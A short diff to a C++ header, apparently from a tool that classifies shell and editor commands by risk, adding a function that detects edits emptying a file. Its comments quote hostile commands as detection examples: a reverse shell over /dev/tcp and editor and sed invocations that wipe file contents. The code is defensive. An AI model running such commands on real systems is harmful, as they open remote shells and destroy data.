@@ -78,6 +78,9 @@ bool OpensShell(std::span<const std::string> words);
 // `bash -i >& /dev/tcp/host/1`
 bool IsRemoteShell(const SimpleCommand& command, std::string_view target);
 
+// `%d`, `+bufdo %d`, `1,$d`, `g/./d`
+bool EmptiesFile(std::string_view edit);
+
 // A file that an editor empties: `sed -i d f`, `vim +%d +wq f`.
 Risk RiskOfEdit(std::span<const std::string> words);
 
